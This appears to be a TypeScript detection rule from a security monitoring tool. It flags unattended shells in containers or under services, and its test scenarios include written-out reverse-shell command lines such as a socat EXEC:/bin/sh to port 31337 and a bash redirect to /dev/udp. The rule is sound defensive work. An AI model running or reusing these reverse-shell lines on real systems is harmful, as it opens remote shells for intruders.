import type { Level } from '../../model/finding.js';
import type { ImageChange, Process } from '../../model/process.js';
import { type EarlyPairs, earlyPairs } from '../early-pairs.js';
import { ancestorsInside, isAttended, programName, replacedImage, type ShellStart, shellsCommandedByInput } from '../lineage.js';
import { isHomeless, isInterpreterName, isLoginServer, isNetworkTool, isRemoteAgent, programOf } from '../programs.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { isImprovisedProgram, shellKind } from '../shell.js';
import { command, imageEvidence, processEvidence, related, span } from '../wording.js';

/** Why a shell can't be explained by work: what started it, in words. */
interface Reason {
  readonly text: string;
  readonly level: Level;
  readonly starter?: Process;
}

/** The kernel's value for a process that no login led to. */
const NO_LOGIN = 4_294_967_295;

export const unattendedShell = defineRule({
  id: 'unattended-shell',
  title: 'Shell that waits for input where nobody sits',
  description:
    'A shell that reads its commands from its input runs where no person logged in, in a container or below a service of the host, and what ' +
    'started it has no use for one: a network tool, an interpreter that gave its own process away, a program given as text or lying in a ' +
    'temporary folder, or, late in the life of the container, a command line that asked for an interactive shell. It needs no connection events, ' +
    'so it also speaks on sources that hold none, and on connections that no policy recorded.',
  level: 'high',
  stage: 'shell',
  attack: ['T1059.004'],
  needs: [],
  options: {
    generations: {
      value: 4,
      description: 'How far above the shell its starter may stand: wrappers such as `sh -c` and forks lie between.',
    },
  },
  falsePositives: ['A container whose work is to offer a console, started by a program that is not a known terminal server.'],
  *run({ view, option, suspects }) {
    const early = earlyPairs(view);
    for (const shell of shellsCommandedByInput(suspects)) {
      const isInContainer = shell.process.containerId !== undefined;
      if (!isInContainer && shell.process.auid !== NO_LOGIN) continue;
      const above = ancestorsInside(view, shell.process, option('generations'));
      const reason = reasonOf(shell, above, early);
      if (reason === undefined || isAttended(shell.process, above)) continue;
      const { starter } = reason;
      yield {
        level: reason.level,
        title: `${command(shell.image)} ${reason.text}`,
        why: `${command(shell.image)} (pid ${shell.process.pid}) reads its commands from its input and was ${reason.text}; ${isInContainer ? 'nobody entered the container' : 'nobody had logged in'} above it.`,
        process: shell.process,
        ...span(shell.atUs),
        connections: [],
        related: [related(shell.process, 'shell'), ...(starter === undefined ? [] : [related(starter, 'parent')])],
        evidence: [...(starter === undefined ? [] : processEvidence(starter)), ...imageEvidence(shell.process, shell.image)],
        members: [shell.process.id],
      };
    }
  },
  hits: [
    scenario(
      'socat starts a shell, over a protocol that nothing recorded',
      `
      container web
      0       node server.js
      1200      socat UDP:host:31337 EXEC:/bin/sh
      1200.1      /bin/sh
    `,
    ),
    scenario(
      'python gives its process to an interactive shell',
      `
      container web
      0       node server.js
      1200      python3 -c "…"
      1200.2      => /bin/sh -i
    `,
    ),
    scenario(
      'a program given as text starts a bare shell, late',
      `
      container web
      0       node server.js
      1200      python3 -c "…"
      1200.2      /bin/sh
    `,
    ),
    scenario(
      'a command line asks for an interactive shell',
      `
      container web
      0       node server.js
      1200      bash -c "sh -i >& /dev/udp/host/53 0>&1"
      1200.1      sh -i
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'an operator enters the container',
      `
      container web
      0     node server.js
      1200  bash -i {entered}
      1201    bash -c "sh -i"
      1201.1    sh -i
    `,
    ),
    scenario(
      'the container starts its services and then an interactive shell',
      `
      container tools
      0     bash -c "service x start; bash -i"
      2       bash -i
    `,
    ),
    scenario(
      'the container itself is an interactive shell',
      `
      container tools
      0     bash -i
      10      ls
    `,
    ),
    scenario(
      'a worker feeds a script to bash',
      `
      container worker
      0     python3 worker.py
      400     bash
      400.1     sort
    `,
    ),
    scenario(
      'a helper that has fed a shell from the start',
      `
      container worker
      0     python3 worker.py
      60      python3 -c "pty.spawn"
      60.1      sh
      400     python3 -c "pty.spawn"
      400.1     sh
    `,
    ),
    scenario(
      'a login shell of a terminal server',
      `
      container notebook
      0     jupyter-lab --no-browser
      400     /bin/bash -l
    `,
    ),
  ],
});

function reasonOf(shell: ShellStart, above: readonly Process[], early: EarlyPairs): Reason | undefined {
  const before = replacedImage(shell.process, shell.place);
  if (before !== undefined) {
    const name = nameOf(before);
    if (isNetworkTool(name) || isInterpreterName(name) || isHomeless(before))
      return { text: `started in place of ${command(before)}`, level: 'high' };
  }
  const starter = above.find((process) => shellKind(process) !== 'command' && process.knownFrom !== 'fork') ?? above[0];
  if (starter === undefined) return undefined;
  const name = programName(starter);
  if (isNetworkTool(name)) return { text: `started by ${command(starter)}`, starter, level: 'high' };
  const [parent = starter] = above;
  const isNews = shell.process.late === 'late' && !early.has(shell.process);
  const isForeigners = !isRemoteAgent(name) && (isImprovisedProgram(starter) || isHomeless(starter));
  // Where no container is known nothing is late: then only a program that nobody installed is told from work.
  const isOdd = isNews || (shell.process.containerId === undefined && isForeigners);
  if (isAskedFor(shell, above)) return { text: `asked for by ${command(parent)}`, starter: parent, level: isOdd ? 'high' : 'medium' };
  if (!isOdd || !isForeigners) return undefined;
  return { text: `started by ${command(starter)}, a program that nobody installed`, starter, level: 'high' };
}

/** True for an explicit `-i` below a command line, a wrapper or an interpreter: a terminal server starts `-l` or a bare shell. */
function isAskedFor(shell: ShellStart, above: readonly Process[]): boolean {
  const [parent] = above;
  if (shell.kind !== 'interactive' || parent === undefined || !/(?:^|\s)-[a-z]*i/.test(programOf(shell.image)?.arguments ?? ''))
    return false;
  const name = programName(parent);
  if (isLoginServer(name) || isRemoteAgent(name)) return false;
  const kind = shellKind(parent);
  return kind === 'command' || kind === 'stdin' || isInterpreterName(name);
}

function nameOf(image: ImageChange): string {
  return programOf(image)?.name ?? '';
}
